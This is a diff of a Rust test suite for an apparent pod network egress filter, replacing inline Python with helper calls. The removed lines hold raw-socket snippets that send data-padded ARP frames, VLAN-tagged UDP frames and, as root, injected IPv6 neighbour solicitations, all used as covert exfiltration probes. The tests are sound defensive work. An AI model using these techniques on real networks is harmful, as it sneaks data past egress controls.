@@ -695,19 +695,6 @@ fn an_mptcp_subflow_the_kernel_opens_is_still_the_pods() {
     assert_eq!(syns.syns(), 0, "no SYN reached the announced address");
 }
 
-/// Runs a Python snippet inside the pod as `who`; its output.
-fn python(w: &World, who: Privilege, code: &str) -> String {
-    let out = command_as(&w.pod(), who, "/usr/bin/python3")
-        .args(["-c", code])
-        .output()
-        .unwrap();
-    format!(
-        "{}{}",
-        String::from_utf8_lossy(&out.stdout),
-        String::from_utf8_lossy(&out.stderr)
-    )
-}
-
 /// Found by an independent red-team run: a source address that is not the
 /// pod's (IPV6_FREEBIND / IP_TRANSPARENT, no privilege beyond a default
 /// container's) would have an allowed server — or the agent's DNS proxy — answer
@@ -729,8 +716,8 @@ fn a_forged_source_address_never_leaves() {
         ],
     );
     let agent = w.start_agent("REGISTRY_ONLY", POD);
-    let out = python(
-        &w,
+    let out = python_as(
+        &w.pod(),
         Privilege::ContainerDefault,
         "import socket\n\
          for fam, opt, own, ext1 in ((socket.AF_INET6, (socket.IPPROTO_IPV6, 78), '2001:db8::12', '2001:db8::11'),\n\
@@ -824,60 +811,20 @@ fn arp_and_neighbour_discovery_carry_no_data() {
         "meta l4proto ipv6-icmp meta length > 200",
     );
     let agent = w.start_agent("REGISTRY_ONLY", POD);
-    let mac2 = mac_of(w.net.ext(2), "eth0");
-    let mac = mac2.replace(':', "");
-    let arp_out = python(
-        &w,
-        Privilege::ContainerDefault,
-        &format!(
-            "import socket\n\
-             s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)\n\
-             s.bind(('eth0', 0))\n\
-             arp = bytes.fromhex('0001080006040001') + b'\\0'*6 + bytes([198,18,0,2]) + b'\\0'*6 + bytes([198,18,0,12])\n\
-             try:\n\
-             \x20 s.send(bytes.fromhex('{mac}') + s.getsockname()[4] + b'\\x08\\x06' + arp + b'exfiltrated'*90); print('sent')\n\
-             except OSError as e: print('refused', e.errno)\n"
-        ),
-    );
+    let pod = w.pod();
+    let frames = LinkFrames::new(&pod, w.net.pod(), &mac_of(w.net.ext(2), "eth0"));
+    let arp_out = frames.big_arp();
     assert!(
         arp_out.contains("sent") || arp_out.contains("refused"),
         "{arp_out}"
     );
     // A frame with an 802.1Q tag (the kernel takes it into the packet's
     // metadata before TC sees the frame).
-    let vlan = python(
-        &w,
-        Privilege::ContainerDefault,
-        &format!(
-            "import socket\n\
-             s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)\n\
-             s.bind(('eth0', 0))\n\
-             ip = bytes.fromhex('4500003c00004000401100000000000000000000')\n\
-             ip = ip[:12] + bytes([198,18,0,2,198,18,0,12])\n\
-             udp = bytes.fromhex('2710270f00280000') + b'exfiltrated' * 3\n\
-             try:\n\
-             \x20 s.send(bytes.fromhex('{mac}') + s.getsockname()[4] + b'\\x81\\x00\\x00\\x05\\x08\\x00' + ip + udp); print('sent')\n\
-             except OSError as e: print('refused', e.errno)\n"
-        ),
-    );
+    let vlan = frames.tagged_udp();
     assert!(vlan.contains("sent") || vlan.contains("refused"), "{vlan}");
     // Root in the pod: a TUN device, forwarding on, a crafted neighbour
     // solicitation with 900 bytes of options to ext2's global address.
-    let ns = w.net.pod();
-    let tun = "import fcntl, os, struct, socket, time\n\
-               fd = os.open('/dev/net/tun', os.O_RDWR)\n\
-               fcntl.ioctl(fd, 0x400454ca, struct.pack('16sH', b'egtun0', 0x0001 | 0x1000))\n\
-               os.system('ip link set egtun0 up; sysctl -qw net.ipv6.conf.all.forwarding=1')\n\
-               time.sleep(0.2)\n\
-               src = socket.inet_pton(socket.AF_INET6, '2001:db8::2')\n\
-               dst = socket.inet_pton(socket.AF_INET6, '2001:db8::12')\n\
-               body = bytes([135, 0, 0, 0, 0, 0, 0, 0]) + dst + b'exfiltrated' * 80\n\
-               pkt = bytes([0x60, 0, 0, 0]) + struct.pack('!HBB', len(body), 58, 255) + src + dst + body\n\
-               for _ in range(5):\n\
-               \x20 os.write(fd, pkt)\n\
-               time.sleep(0.3)\n\
-               print('injected')\n";
-    let out = python(&w, Privilege::Root, tun);
+    let out = frames.big_neighbour_solicitation();
     assert!(out.contains("injected"), "{out}");
     let lines = wait_lines(
         &agent,
@@ -902,5 +849,4 @@ fn arp_and_neighbour_discovery_carry_no_data() {
         (0, 0),
         "ext2 got no data frame"
     );
-    let _ = ns;
 }
